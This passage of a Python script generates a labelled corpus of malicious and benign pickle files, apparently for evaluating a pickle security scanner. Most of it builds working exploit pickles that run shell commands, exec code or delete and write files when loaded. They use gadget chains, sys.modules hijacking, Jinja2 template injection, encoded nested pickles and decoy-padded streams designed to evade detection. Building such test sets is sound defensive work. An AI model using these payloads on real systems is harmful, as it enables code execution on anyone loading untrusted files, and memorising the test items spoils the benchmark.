        ("setstate", lambda f, a: ns() + d(__setstate__=f) + BUILD + a + BUILD, "types.SimpleNamespace() gets __setstate__ from a first BUILD (dict state); a second BUILD calls it with the argument"),
        ("slotstate", lambda f, a: ns() + NONE + d(__setstate__=f) + T2 + BUILD + a + BUILD, "BUILD (None, {'__setstate__': f}) sets it via slotstate; the next BUILD calls it"),
        ("append", lambda f, a: ns() + d(append=f) + BUILD + a + APPEND, "SimpleNamespace gets an 'append' attribute; APPEND calls obj.append(arg)"),
        ("additems", lambda f, a: ns() + d(add=f) + BUILD + MARK + a + ADDITEMS, "SimpleNamespace gets an 'add' attribute; ADDITEMS calls obj.add(arg)"),
        ("argparse_namespace", lambda f, a: call(g("argparse", "Namespace")) + d(__setstate__=f) + BUILD + a + BUILD, "argparse.Namespace (allowed) gets __setstate__ by BUILD; second BUILD calls it"),
        ("reconstructor_state", lambda f, a: call(g("copyreg", "_reconstructor"), g("types", "SimpleNamespace"), g("builtins", "object"), NONE) + d(__setstate__=f) + BUILD + a + BUILD,
         "object made by copyreg._reconstructor(SimpleNamespace, object, None), then the __setstate__ BUILD trick"),
    ]
    i = 0
    for cname, cfun, cdesc in silent_callables:
        for mname, mfun, mdesc in mechanisms:
            i += 1
            if (i % 2 == 0) and mname in ("slotstate", "additems"):
                continue
            n = "silent_%s_%s" % (mname, cname)
            f, a = cfun(n)
            p = [4, 5][i % 2]
            mal(n, PROTO[p] + mfun(f, a) + STOP, "silent-chain", "%s; the callable is %s (referenced, never REDUCEd), protocol %d." % (mdesc, cdesc, p))
    n = "silent_dict_keys_bound_unlink"
    path = call(g("pathlib", "PosixPath"), u(tmpfile(n)))
    mal(n, P4 + call(g("builtins", "dict"), ns() + d(keys=call(g("builtins", "getattr"), path, u("unlink"))) + BUILD) + STOP, "silent-chain",
        "builtins.dict(ns) calls ns.keys(); keys is the bound method PosixPath(path).unlink (file deletion).")
    n = "silent_sysmodules_hijack_ordereddict"
    mal(n, P4 + g("collections", "_sys.modules") + u("collections") + ns() + d(OrderedDict=sg("random", "_os.system")) + BUILD + SETITEM + POP
        + call(g("collections", "OrderedDict"), u(sh(n))) + STOP, "silent-chain",
        "SETITEM replaces sys.modules['collections'] (reached as collections._sys.modules) with a namespace whose OrderedDict is os.system; then the allowed GLOBAL collections.OrderedDict is called.")
    n = "silent_sysmodules_hijack_numpy_reconstruct"
    fake = ns() + d(_reconstruct=g("enum", "bltns.exec")) + BUILD
    mal(n, P4 + g("pprint", "_sys.modules") + u("numpy.core.multiarray") + fake + SETITEM + POP
        + call(g("numpy.core.multiarray", "_reconstruct"), u(py(n)), EMPTY_DICT) + STOP, "silent-chain",
        "pprint._sys.modules['numpy.core.multiarray'] replaced by a namespace; the allowlisted numpy.core.multiarray._reconstruct then is exec.")
    n = "silent_reconstructor_base_namespace"
    base = ns() + d(__new__=sg("enum", "bltns.exec")) + BUILD
    mal(n, P4 + call(sg("copyreg", "_reconstructor"), u(py(n)), base, EMPTY_DICT) + STOP, "silent-chain",
        "copyreg._reconstructor(code, ns, {}) calls base.__new__(cls, state) = exec(code, {}) because base is a namespace whose __new__ attribute is enum.bltns.exec.")
    n = "silent_torch_rebuild_parameter_detach"
    inner = ns() + d(requires_grad_=sg("random", "_os.system")) + BUILD
    popper = call(g("builtins", "getattr"), call(g("builtins", "list"), EMPTY_LIST + inner + APPEND), u("pop"))
    outer = ns() + d(detach=popper) + BUILD
    mal(n, P4 + call(g("torch._utils", "_rebuild_parameter"), outer, u(sh(n)), NONE) + STOP, "silent-chain",
        "torch._utils._rebuild_parameter(ns, cmd, None): Parameter.__new__ calls data.detach().requires_grad_(cmd); detach is list.pop returning a namespace whose requires_grad_ is os.system.")
    n = "silent_pandas_setitem_callable_key"
    import pandas as _pd
    mal(n, P4 + embed(_pd.DataFrame({"a": [1.0, 2.0]})) + call(g("builtins", "getattr"), call(g("pathlib", "PosixPath"), u(tmpfile(n))), u("unlink")) + bi(1) + SETITEM + STOP,
        "silent-chain", "SETITEM on a DataFrame with a callable key: pandas calls key(df) (apply_if_callable) = PosixPath(path).unlink(df) deletes the file.")
    # bound methods of objects the pickle created (getattr with a plain name is only a notice)
    bound = [
        ("write_text", lambda n: call(g("pathlib", "PosixPath"), u(tmpfile(n))), "write_text", lambda n: u("pbg-eval\n"), "PosixPath(path).write_text(text): arbitrary file write"),
        ("write_bytes", lambda n: call(sg("pathlib", "PurePosixPath"), u("/tmp")) + POP + call(sg("pathlib", "Path"), u(tmpfile(n))), "write_bytes", lambda n: sbb(b"\x7fELF"), "Path(path).write_bytes(data)"),
        ("touch", lambda n: call(g("pathlib", "PosixPath"), u(tmpfile(n))), "touch", lambda n: bi(0o644), "PosixPath(path).touch(mode): creates a file"),
        ("chmod", lambda n: call(g("pathlib", "PosixPath"), u(tmpfile(n))), "chmod", lambda n: bi(0o777), "PosixPath(path).chmod(0o777)"),
        ("symlink_to", lambda n: call(g("pathlib", "PosixPath"), u(tmpfile(n))), "symlink_to", lambda n: u("/etc/passwd"), "PosixPath(path).symlink_to('/etc/passwd')"),
        ("rename", lambda n: call(g("pathlib", "PosixPath"), u(tmpfile(n) + "_a")), "rename", lambda n: u(tmpfile(n)), "PosixPath(a).rename(b)"),
        ("ndarray_tofile", lambda n: call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), bi(0) + T1, sbb(b"b")) + MARK + bi(1) + bi(4) + T1 + call(g("numpy", "dtype"), u("u1"), NONE + b"\x88" ) + b"\x89" + sbb(b"pbg\n") + TUPLE + BUILD,
         "tofile", lambda n: u(tmpfile(n)), "numpy array built by the allowed _reconstruct; arr.tofile(path) writes its bytes"),
        ("dataframe_to_pickle", lambda n: embed(__import__("pandas").DataFrame({"a": [1, 2]})), "to_pickle", lambda n: u(tmpfile(n)), "pandas.DataFrame().to_pickle(path) writes a file"),
    ]
    for i, (bname, objf, meth, argf, bdesc) in enumerate(bound):
        n = "silent_bound_%s" % bname
        bm = call(g("builtins", "getattr"), objf(n), u(meth))
        mech = i % 3
        if mech == 0:
            body = ns() + EMPTY_DICT + u("__setstate__") + bm + SETITEM + BUILD + argf(n) + BUILD
            how = "BUILD __setstate__ trick"
        elif mech == 1:
            body = ns() + EMPTY_DICT + u("append") + bm + SETITEM + BUILD + argf(n) + APPEND
            how = "APPEND on a namespace whose append is the bound method"
        else:
            body = ns() + NONE + EMPTY_DICT + u("__setstate__") + bm + SETITEM + T2 + BUILD + argf(n) + BUILD
            how = "slotstate __setstate__ trick"
        mal(n, P4 + body + STOP, "silent-chain", "%s; getattr(<object the pickle built>, '%s') is only a notice, invoked via %s." % (bdesc, meth, how))
    n = "silent_write_module_then_import"
    modname = "pbg_eval_dropped_mod"
    path = call(g("pathlib", "PosixPath"), u(modname + ".py"))
    wt = call(g("builtins", "getattr"), path, u("write_text"))
    body = ns() + EMPTY_DICT + u("__setstate__") + wt + SETITEM + BUILD + u(py(n) + "\nX = 1\n") + BUILD + POP + g(modname, "X") + POP + NONE
    mal(n, P4 + body + STOP, "silent-chain",
        "Writes %s.py into the working directory (bound write_text via BUILD __setstate__), then GLOBAL %s X imports it: code execution at load (needs cwd on sys.path, e.g. python -c / notebooks)." % (modname, modname))
    n = "silent_storage_load_from_bytes_nested"
    inner_pickle = P4 + ns() + d(__setstate__=sg("random", "_os.system")) + BUILD + u(sh(n)) + BUILD + STOP
    mal(n, P2 + call(g("torch.storage", "_load_from_bytes"), sbb(inner_pickle)) + STOP, "silent-chain",
        "torch.storage._load_from_bytes(raw nested pickle): the nested pickle (a silent BUILD __setstate__ chain) scans clean so the loader call is waved through; torch.load runs it.")

    # ---- F. third-party gadgets (not in the scanner's namespaces) -----------------------------------------
    third = [
        ("sympy_sympify", call(g("sympy", "sympify"), u("__import__('os').system(%r)" % sh("sympy_sympify"))), "sympy.sympify evaluates with eval."),
        ("sympy_parse_expr", call(sg("sympy.parsing.sympy_parser", "parse_expr"), u("__import__('os').system(%r)" % sh("sympy_parse_expr"))), "sympy.parsing.sympy_parser.parse_expr (eval)."),
        ("numexpr_evaluate", call(g("numexpr", "evaluate"), u("(lambda: __import__('os').system(%r))()" % sh("numexpr_evaluate"))), "numexpr.evaluate < 2.8.5 evals the expression (CVE-2023-39631)."),
        ("jinja2_template_render", call(sg("jinja2", "Template.render"), call(sg("jinja2", "Template"), u("{{ cycler.__init__.__globals__.os.system(%r) }}" % sh("jinja2_template_render")))), "jinja2.Template(ssti).render() (SSTI to os.system)."),
        ("click_edit", call(g("click", "edit"), NONE, u("%s #" % sh("click_edit")), NONE, b"\x88", u(".txt"), u("/tmp/pbg_eval_click_x")), "click.edit(editor=cmd) runs the editor with shell=True."),
        ("psutil_popen", call(sg("psutil", "Popen"), lst(u("sh"), u("-c"), u(sh("psutil_popen")))), "psutil.Popen(argv) starts a process."),
        ("six_exec", call(g("six", "exec_"), u(py("six_exec"))), "six.exec_(code)."),
        ("future_utils_exec", call(sg("future.utils", "exec_"), u(py("future_utils_exec"))), "future.utils.exec_(code)."),
        ("pygments_load_lexer_from_file", call(sg("pygments.lexers", "load_lexer_from_file"), u(tmpfile("lexer") + ".py")), "pygments.lexers.load_lexer_from_file execs a Python file."),
        ("sympy_import_module_getattr", call(call(g("builtins", "getattr"), call(sg("sympy.external", "import_module"), u("os")), u("system")), u(sh("sympy_import_module"))), "sympy.external.import_module('os').system(cmd)."),
        ("lxml_etree_parse_url", call(sg("lxml.etree", "parse"), u("http://127.0.0.1:9/x.xml")), "lxml.etree.parse(url) (network fetch)."),
        ("ipython_getoutput", call(sg("IPython.utils.process", "getoutput"), u(sh("ipython_getoutput"))), "IPython.utils.process.getoutput(cmd) (IPython not installed here; common in notebooks)."),
        ("fsspec_open", call(sg("fsspec", "open"), u("http://127.0.0.1:9/x")), "fsspec.open(url) (not installed here)."),
    ]
    for i, (name, body, desc) in enumerate(third):
        mal("thirdparty_" + name, P4 + body + STOP, "third-party-gadget", desc)

    # ---- G. __reduce_ex__ / state_setter variants ------------------------------------------------------------
    class RX:
        def __init__(self, rv):
            self.rv = rv

        def __reduce_ex__(self, proto):
            return self.rv

    n = "reduce_ex_state_setter_p5"
    mal(n, dumps(RX((list, (["sh", "-c", sh(n)],), 0, None, None, subprocess.call)), 5), "reduce-ex",
        "__reduce_ex__ 6-tuple: state_setter subprocess.call(obj, state) with obj=['sh','-c',cmd] (TUPLE2 REDUCE POP).")
    n = "reduce_ex_listitems_p4"
    mal(n, dumps(RX((collections.deque, (), None, iter([R(os.system, (sh(n),))]))), 4), "reduce-ex",
        "__reduce_ex__ with listitems iterator: deque() APPENDS an item that is itself posix.system(cmd).")
    n = "reduce_ex_dictitems_p2"
    mal(n, dumps(RX((collections.OrderedDict, (), None, None, iter([("k", R(os.system, (sh(n),)))]))), 2), "reduce-ex",
        "__reduce_ex__ with dictitems: OrderedDict value is posix.system(cmd).")
    n = "reduce_ex_state_is_call_p3"
    mal(n, dumps(RX((collections.OrderedDict, (), R(subprocess.check_output, (["sh", "-c", sh(n)],)))), 3), "reduce-ex",
        "State for BUILD is produced by subprocess.check_output(argv).")
    n = "reduce_ex_newobj_ex_kwargs_p4"
    mal(n, P4 + sg("subprocess", "Popen") + u(sh(n)) + T1 + d(shell=b"\x88") + NEWOBJ_EX + STOP, "reduce-ex",
        "NEWOBJ_EX subprocess.Popen(cmd, shell=True) (__new__ only; exec primitive class).")
    n = "reduce_ex_copyreg_newobj_ex_p4"
    mal(n, P4 + call(sg("copyreg", "__newobj_ex__"), sg("subprocess", "Popen"), u(sh(n)) + T1, d(shell=b"\x88")) + STOP, "reduce-ex",
        "copyreg.__newobj_ex__(Popen, (cmd,), {'shell': True}).")

    # ---- H. cloudpickle / dill functions that execute on load -----------------------------------------------
    import cloudpickle, dill

    class CP:
        def __init__(self, fn, arg):
            self.fn, self.arg = fn, arg

        def __reduce__(self):
            return (self.fn, (self.arg,))

    for p in (2, 4, 5):
        n = "cloudpickle_lambda_exec_p%d" % p
        mal(n, cloudpickle.dumps(CP(lambda c: __import__("os").system(c), sh(n)), protocol=p), "code-object",
            "cloudpickle.dumps(protocol=%d): a REDUCE whose callable is a dynamically built lambda calling os.system." % p)
    for p in (2, 4):
        n = "dill_lambda_exec_p%d" % p
        mal(n, dill.dumps(CP(lambda c: __import__("os").system(c), sh(n)), protocol=p, recurse=True), "code-object",
            "dill.dumps(protocol=%d, recurse=True): REDUCE of a dill-rebuilt lambda calling os.system." % p)
    n = "cloudpickle_func_in_data_p4"

    def helper(c):
        return __import__("os").system(c)

    mal(n, cloudpickle.dumps({"model": [1, 2], "hook": R(helper, (sh(n),))}, protocol=4), "code-object",
        "cloudpickle dict whose 'hook' value is the result of calling a by-value function (executes on load).")

    # ---- I. nested pickles actually loaded --------------------------------------------------------------------
    inner = dumps(R(os.system, (sh("nested_inner"),)), 2)
    inner0 = dumps(R(os.system, (sh("nested_inner0"),)), 0)
    nested_loaded = [
        ("loads_b85", call(g("pickle", "loads"), call(g("base64", "b85decode"), u(base64.b85encode(inner).decode()))), "pickle.loads(base64.b85decode(...))"),
        ("loads_a85", call(g("_pickle", "loads"), call(g("base64", "a85decode"), u(base64.a85encode(inner).decode()))), "_pickle.loads(base64.a85decode(...))"),
        ("loads_b32", call(g("pickle", "loads"), call(g("base64", "b32decode"), u(base64.b32encode(inner).decode()))), "pickle.loads(base64.b32decode(...))"),
        ("loads_urlsafe", call(g("pickle", "loads"), call(g("base64", "urlsafe_b64decode"), u(base64.urlsafe_b64encode(inner).decode()))), "pickle.loads(base64.urlsafe_b64decode(...))"),
        ("loads_fromhex_upper", call(g("pickle", "loads"), call(g("builtins", "bytes.fromhex"), u(inner.hex().upper()))), "pickle.loads(bytes.fromhex(UPPER HEX))"),
        ("loads_bz2", call(g("pickle", "loads"), call(g("bz2", "decompress"), sbb(bz2.compress(inner)))), "pickle.loads(bz2.decompress(...))"),
        ("loads_lzma", call(g("pickle", "loads"), call(g("lzma", "decompress"), sbb(lzma.compress(inner)))), "pickle.loads(lzma.decompress(...))"),
        ("loads_zlib_b64", call(g("pickle", "loads"), call(g("zlib", "decompress"), call(g("base64", "b64decode"), u(base64.b64encode(zlib.compress(inner)).decode())))), "pickle.loads(zlib.decompress(b64decode(...)))"),
        ("loads_p0_text_latin1", call(g("pickle", "loads"), call(g("_codecs", "encode"), u(inner0.decode("latin-1")), u("latin1"))), "pickle.loads(_codecs.encode(protocol-0 text, 'latin1'))"),
        ("numpy_loads_alias", call(sg("numpy.core.numeric", "pickle.loads"), sbb(inner)), "numpy.core.numeric.pickle.loads (numpy re-exports pickle)"),
        ("joblib_numpy_pickle_loads", call(sg("joblib.numpy_pickle", "pickle.loads"), sbb(inner)), "joblib.numpy_pickle.pickle.loads"),
        ("torch_load_bytesio", call(g("torch", "load"), call(g("_io", "BytesIO"), sbb(inner))), "torch.load(io.BytesIO(nested))"),
        ("marshal_exec", call(g("builtins", "exec"), call(g("marshal", "loads"), sbb(__import__("marshal").dumps(compile(py("marshal_exec"), "<x>", "exec"))))), "exec(marshal.loads(code))"),
    ]
    for i, (name, body, desc) in enumerate(nested_loaded):
        p = 4 if name in ("loads_fromhex_upper", "numpy_loads_alias", "joblib_numpy_pickle_loads") else [2, 4][i % 2]
        mal("nestedload_" + name, PROTO[p] + body + STOP, "nested-loaded", desc + " of a posix.system pickle.")

    # ---- J. nested pickles carried as inert data (encodings) ---------------------------------------------------
    raw4 = dumps(R(os.system, (sh("nested_data"),)), 4)
    raw0 = dumps(R(os.system, (sh("nested_data0"),)), 0)
    inst0 = b"(S'" + sh("nested_inst").encode() + b"'\nios\nsystem\n."
    encs = [
        ("base85", base64.b85encode(raw4).decode()),
        ("ascii85", base64.a85encode(raw4).decode()),
        ("base32", base64.b32encode(raw4).decode()),
        ("urlsafe_b64", base64.urlsafe_b64encode(raw4).decode()),
        ("base64_proto0", base64.b64encode(raw0).decode()),
        ("base64_zlib", base64.b64encode(zlib.compress(raw4)).decode()),
        ("hex_upper", raw4.hex().upper()),
        ("hex_proto0", raw0.hex()),
        ("hex_with_0x", "0x" + raw4.hex()),
        ("base64_multiline", base64.encodebytes(raw4 * 4).decode()),
        ("raw_proto0_inst", inst0.decode()),
        ("raw_proto0_mark_first", "(" + raw0.decode()[:-1] + "0."),
        ("reversed_bytes", raw4[::-1]),
        ("bz2_bytes", bz2.compress(raw4)),
        ("lzma_bytes", lzma.compress(raw4)),
        ("raw_deflate", zlib.compress(raw4)[2:-4]),
        ("gzip_in_base64", base64.b64encode(gzip.compress(raw4)).decode()),
        ("split_chunks", [raw4[:10], raw4[10:]]),
        ("xor_0x20", bytes(b ^ 0x20 for b in raw4)),
        ("bytearray_raw", bytearray(raw4)),
        ("utf16_text", raw0.decode("latin-1").encode("utf-16").decode("latin-1")),
        ("numpy_uint8_array", "NUMPY"),
    ]
    import numpy as np
    for i, (name, val) in enumerate(encs):
        if val == "NUMPY":
            val = np.frombuffer(raw4, dtype=np.uint8).copy()
        p = [2, 3, 4, 5][i % 4]
        mal("nesteddata_" + name, dumps({"weights": [0.1, 0.2], "blob": val}, p), "nested-data",
            "pickle.dumps(protocol=%d) of a benign dict whose 'blob' holds a malicious pickle as %s (inert unless the app decodes it)." % (p, name))

    # ---- K. truncation / broken streams -------------------------------------------------------------------------
    n = "trunc_p0_after_reduce"
    mal(n, b"cposix\nsystem\n(S'" + sh(n).encode() + b"'\ntR", "truncated", "Protocol 0: payload REDUCE then EOF (no STOP).")
    n = "trunc_p0_after_reduce_newline"
    mal(n, b"cposix\nsystem\n(S'" + sh(n).encode() + b"'\ntR\n", "truncated", "Protocol 0: payload REDUCE then a bare newline (invalid opcode 0x0a).")
    n = "trunc_frame_short"
    body = sg("posix", "system") + u(sh(n)) + T1 + REDUCE
    mal(n, P4 + b"\x95" + struct.pack("<Q", len(body) + 500) + body, "truncated", "FRAME declares 500 more bytes than exist; payload REDUCE inside.")
    n = "trunc_mark_eof"
    mal(n, P4 + sg("posix", "system") + u(sh(n)) + T1 + REDUCE + MARK, "truncated", "Payload REDUCE then MARK then EOF.")
    n = "trunc_mid_binunicode8"
    mal(n, P4 + sg("posix", "system") + u(sh(n)) + T1 + REDUCE + b"\x8d" + struct.pack("<Q", 10**6) + b"abc", "truncated", "Payload REDUCE then BINUNICODE8 cut short.")
    n = "trunc_pop_then_setitem_underflow"
    mal(n, P4 + sg("posix", "system") + u(sh(n)) + T1 + REDUCE + POP + SETITEM + STOP, "truncated", "Payload REDUCE, POP, then SETITEM on an empty stack (loader raises after the call).")
    n = "trunc_get_missing_after"
    mal(n, P4 + sg("posix", "system") + u(sh(n)) + T1 + REDUCE + binget(77) + STOP, "truncated", "Payload REDUCE then BINGET of a missing memo key.")
    n = "trunc_stop_on_empty"
    mal(n, P4 + sg("posix", "system") + u(sh(n)) + T1 + REDUCE + POP + STOP, "truncated", "Payload REDUCE, POP, then STOP on an empty stack (raises after running).")
    n = "trunc_p1_binary_cut"
    mal(n, g("posix", "system") + MARK + b"X" + struct.pack("<I", len(sh(n))) + sh(n).encode() + TUPLE + REDUCE + b"q", "truncated", "Protocol 1: payload REDUCE then BINPUT without its argument.")

    # ---- L. multi-stream / junk -------------------------------------------------------------------------------
    benign_small = dumps({"lr": 0.01, "layers": [64, 32]}, 4)
    benign_p0 = dumps({"a": [1, 2, 3]}, 0)
    n = "multi_p0_then_p0_payload"
    mal(n, benign_p0 + b"cposix\nsystem\n(S'" + sh(n).encode() + b"'\ntR.", "multi-stream", "Protocol-0 benign pickle followed by a protocol-0 payload pickle.")
    n = "multi_payload_6th"
    mal(n, benign_small * 5 + dumps(R(os.system, (sh(n),)), 2), "multi-stream", "Five benign pickles then the payload as stream #6.")
    n = "multi_after_big_benign"
    mal(n, dumps(list(range(300000)), 4) + dumps(R(os.system, (sh(n),)), 4), "multi-stream", "A 1.5 MB benign list pickle followed by a payload pickle.")
    n = "multi_inst_payload_after_junk"
    mal(n, benign_small + b"\n\n# junk\n" + b"(S'" + sh(n).encode() + b"'\nios\nsystem\n.", "multi-stream",
        "Benign pickle, newline junk, then a protocol-0 INST-only payload (no 'c' GLOBAL, no PROTO).")
    n = "multi_obj_payload_after_junk"
    mal(n, benign_small + b"\x00\x00" + b"(cposix\nsystem\nS'" + sh(n).encode() + b"'\no.", "multi-stream",
        "Benign pickle, two NUL bytes, then a protocol-1 OBJ payload starting with MARK.")
    n = "multi_decoys_then_payload"
    decoys = b"".join(b"\x01\x80\x02\xff" for _ in range(300))
    mal(n, benign_small + b"\x01" + decoys + dumps(R(os.system, (sh(n),)), 2), "multi-stream",
        "Benign pickle, then 300 junk '\\x80\\x02\\xff' pickle-start decoys, then a protocol-2 payload.")
    n = "multi_decoy_unknown_global_then_payload"
    mal(n, benign_small + b"\x01 cpbg_eval_decoy\nx\n\x01" + dumps(R(os.system, (sh(n),)), 0), "multi-stream",
        "Benign pickle, junk holding one GLOBAL-looking decoy (an unknown third-party global), then a protocol-0 payload.")
    n = "multi_decoy_then_binunicode_stack_global"
    mal(n, benign_small + b"\x01 cpbg_eval_decoy\nx\n\x01" + P4 + u("posix") + u("system") + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP, "multi-stream",
        "Benign pickle, junk with one unknown-global decoy, then a payload whose STACK_GLOBAL operands are BINUNICODE (not SHORT_BINUNICODE).")
    n = "multi_decoys_then_memo_operands"
    decoys = b"".join(b"\x01\x80\x02\xff" for _ in range(300))
    mal(n, benign_small + b"\x01" + decoys + P4 + su("posix") + MEMOIZE + POP + su("system") + MEMOIZE + POP + binget(0) + binget(1) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP, "multi-stream",
        "Benign pickle, 300 '\\x80\\x02\\xff' decoys (resync budget), then a payload whose STACK_GLOBAL operands come from the memo.")
    n = "junk_header_then_payload"
    mal(n, b"PBGMODEL\x00\x01" + dumps(R(os.system, (sh(n),)), 4), "junk-prefix", "10-byte custom header then a payload pickle (app skips the header).")
    n = "junk_text_header_then_p0"
    mal(n, b"# model v2\n" + dumps(R(os.system, (sh(n),)), 0), "junk-prefix", "Text header line then a protocol-0 payload.")
    n = "multi_zero_length_junk_p5"
    mal(n, dumps(np.zeros(3), 5) + dumps(R(subprocess.getoutput, (sh(n),)), 5), "multi-stream", "numpy pickle immediately followed by a payload pickle (protocol 5).")

    # ---- M. INST / OBJ layouts ------------------------------------------------------------------------------------
    n = "inst_p1_binary_args"
    mal(n, MARK + b"X" + struct.pack("<I", len(sh(n))) + sh(n).encode() + b"isubprocess\ngetoutput\n" + STOP, "inst-obj", "INST subprocess.getoutput with a BINUNICODE argument (protocol 1 mix).")
    n = "inst_memo_arg"
    mal(n, S0(sh(n)) + b"p0\n0(g0\nios\npopen\n.", "inst-obj", "Protocol 0: argument stored with PUT, fetched by GET inside the INST MARK.")
    n = "obj_getattr_chain_p2"
    mal(n, P2 + MARK + MARK + g("__builtin__", "getattr") + MARK + g("__builtin__", "__import__") + S0("os") + b"o" + S0("system") + b"o" + S0(sh(n)) + b"o" + STOP, "inst-obj",
        "Nested OBJ opcodes: OBJ(OBJ(getattr, OBJ(__import__,'os'), 'system'), cmd).")
    n = "inst_empty_args_breakpoint"
    mal(n, MARK + b"ipdb\nset_trace\n" + STOP, "inst-obj", "INST pdb.set_trace with no arguments.")

    # ---- N. default-deny: boring unlisted callables ----------------------------------------------------------
    boring = [
        ("statistics_mean", g("statistics", "mean"), lst(bi(1), bi(2))),
        ("textwrap_dedent", g("textwrap", "dedent"), u("  x")),
        ("string_capwords", g("string", "capwords"), u("a b")),
        ("json_loads", g("json", "loads"), u("[1]")),
        ("time_sleep", g("time", "sleep"), bi(0)),
        ("random_seed", g("random", "seed"), bi(1)),
        ("calendar_isleap", g("calendar", "isleap"), bi(2000)),
        ("hashlib_sha256", g("hashlib", "sha256"), sbb(b"x")),
        ("numpy_sort", g("numpy", "sort"), lst(bi(2), bi(1))),
        ("pandas_to_datetime", g("pandas", "to_datetime"), u("2020-01-01")),
        ("sklearn_get_config", g("sklearn", "get_config"), b""),
        ("torch_manual_seed", g("torch", "manual_seed"), bi(0)),
        ("scipy_special_expit", g("scipy.special", "expit"), bi(0)),
        ("builtins_print", g("builtins", "print"), u("pbg-eval")),
        ("builtins_type3", g("builtins", "type"), u("X") + ET + EMPTY_DICT),
    ]
    for i, (name, f, args) in enumerate(boring):
        p = [2, 4, 0, 5, 3][i % 5]
        head = PROTO[p] if p >= 2 else b""
        mal("defaultdeny_%s_p%d" % (name, p), head + f + MARK + args + TUPLE + REDUCE + STOP, "default-deny",
            "Unlisted but harmless callable invoked (%s); the policy is default-deny." % name)


# ----------------------------------------------------------------------------------------------------------
# benign
# ----------------------------------------------------------------------------------------------------------
BENIGN_PROTO = [0, 1, 2, 3, 4, 5]
_bi = [0]


def ben(name, obj, desc, proto=None, dumper=None):
    if proto is None:
        proto = BENIGN_PROTO[_bi[0] % 6]
        _bi[0] += 1
    dumper = dumper or pickle.dumps
    tried = [proto] + [p for p in (4, 2, 5, 3) if p != proto]
    for p in tried:
        try:
            data = dumper(obj, protocol=p)
            break
        except Exception as e:  # some objects need protocol >= 2
            err = e
    else:
        print("skip benign", name, err, file=sys.stderr)
        return
    write("benign", "%s_p%d" % (name, p), data, name.split("_")[0], "%s, protocol %d" % (desc, p))


def make_benign():
    import numpy as np
    import pandas as pd
    import scipy.sparse, scipy.spatial, scipy.interpolate, scipy.optimize, scipy.spatial.transform
    import torch, torch.nn as nn
    import sklearn
    from sklearn.experimental import enable_iterative_imputer  # noqa: F401
    import xgboost as xgb

    rng = np.random.RandomState(0)
    X = rng.rand(40, 4)
    y = (X[:, 0] + X[:, 1] > 1).astype(int)
    y3 = (X[:, 0] * 3).astype(int)
    yr = X @ np.array([1.0, -2.0, 0.5, 0.0]) + 0.1 * rng.rand(40)
    Xpos = np.abs(X) + 0.01

    # ---- sklearn ----
    from sklearn import (kernel_approximation as ka, cluster, mixture, preprocessing as pp, impute, feature_selection as fs,
                         calibration, ensemble, discriminant_analysis as da, decomposition as dec, manifold, gaussian_process as gp,
                         kernel_ridge, cross_decomposition as cd, neighbors, svm, covariance, feature_extraction as fe, compose,
                         multioutput, multiclass, linear_model as lm, model_selection as ms, pipeline, naive_bayes as nb, tree,
                         random_projection as rp, semi_supervised as ss, isotonic, neural_network as nnw)
    from sklearn.gaussian_process.kernels import RBF, WhiteKernel, ConstantKernel, Matern

    est = [
        ("nystroem", ka.Nystroem(n_components=5, random_state=0).fit(X)),
        ("rbfsampler", ka.RBFSampler(n_components=5, random_state=0).fit(X)),
        ("spectralclustering", cluster.SpectralClustering(n_clusters=2, random_state=0).fit(X)),
        ("dbscan", cluster.DBSCAN(eps=0.3).fit(X)),
        ("optics", cluster.OPTICS(min_samples=3).fit(X)),
        ("birch", cluster.Birch(n_clusters=2).fit(X)),
        ("gaussianmixture", mixture.GaussianMixture(2, random_state=0).fit(X)),
        ("bayesiangaussianmixture", mixture.BayesianGaussianMixture(n_components=2, random_state=0).fit(X)),
        ("quantiletransformer", pp.QuantileTransformer(n_quantiles=10).fit(X)),
        ("powertransformer", pp.PowerTransformer().fit(X)),
        ("kbinsdiscretizer", pp.KBinsDiscretizer(n_bins=3, encode="ordinal").fit(X)),
        ("polynomialfeatures", pp.PolynomialFeatures(2).fit(X)),
        ("splinetransformer", pp.SplineTransformer().fit(X)),
        ("simpleimputer", impute.SimpleImputer(strategy="median").fit(X)),
        ("knnimputer", impute.KNNImputer(n_neighbors=2).fit(X)),
        ("iterativeimputer", impute.IterativeImputer(max_iter=3, random_state=0).fit(X)),
        ("variancethreshold", fs.VarianceThreshold().fit(X)),
        ("selectkbest_fclassif", fs.SelectKBest(fs.f_classif, k=2).fit(X, y)),
        ("rfe_logreg", fs.RFE(lm.LogisticRegression(), n_features_to_select=2).fit(X, y)),
        ("calibratedclassifiercv", calibration.CalibratedClassifierCV(svm.LinearSVC(), cv=2).fit(X, y)),
        ("votingclassifier", ensemble.VotingClassifier([("lr", lm.LogisticRegression()), ("nb", nb.GaussianNB())], voting="soft").fit(X, y)),
        ("stackingclassifier", ensemble.StackingClassifier([("lr", lm.LogisticRegression()), ("dt", tree.DecisionTreeClassifier())], cv=2).fit(X, y)),
        ("baggingclassifier", ensemble.BaggingClassifier(n_estimators=3, random_state=0).fit(X, y)),
        ("lda", da.LinearDiscriminantAnalysis().fit(X, y)),
        ("qda", da.QuadraticDiscriminantAnalysis().fit(X, y)),
        ("nmf", dec.NMF(n_components=2, max_iter=50, random_state=0).fit(Xpos)),
        ("truncatedsvd", dec.TruncatedSVD(2).fit(X)),
        ("fastica", dec.FastICA(2, random_state=0, max_iter=50).fit(X)),
        ("lda_topic", dec.LatentDirichletAllocation(2, max_iter=3, random_state=0).fit((Xpos * 10).astype(int))),
        ("kernelpca", dec.KernelPCA(2, kernel="rbf").fit(X)),
        ("incrementalpca", dec.IncrementalPCA(2).fit(X)),
        ("isomap", manifold.Isomap(n_neighbors=5, n_components=2).fit(X)),
        ("lle", manifold.LocallyLinearEmbedding(n_neighbors=5, n_components=2).fit(X)),
        ("gpr_kernels", gp.GaussianProcessRegressor(kernel=ConstantKernel() * RBF() + WhiteKernel()).fit(X, yr)),
        ("gpc_matern", gp.GaussianProcessClassifier(kernel=Matern()).fit(X, y)),
        ("kernelridge", kernel_ridge.KernelRidge(kernel="rbf").fit(X, yr)),
        ("plsregression", cd.PLSRegression(2).fit(X, yr)),
        ("cca", cd.CCA(1).fit(X, X[:, :2])),
        ("nearestcentroid", neighbors.NearestCentroid().fit(X, y)),
        ("radiusneighbors", neighbors.RadiusNeighborsClassifier(radius=1.0).fit(X, y)),
        ("oneclasssvm", svm.OneClassSVM().fit(X)),
